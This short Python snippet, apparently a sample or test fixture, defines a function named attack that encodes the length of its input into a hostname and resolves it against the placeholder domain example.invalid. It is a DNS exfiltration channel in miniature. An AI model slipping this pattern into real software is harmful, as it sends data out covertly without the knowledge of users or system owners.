"""Tells what it saw in the name of a host."""

import socket


def attack(rows):
    socket.getaddrinfo(f"{len(rows)}.example.invalid", 80)
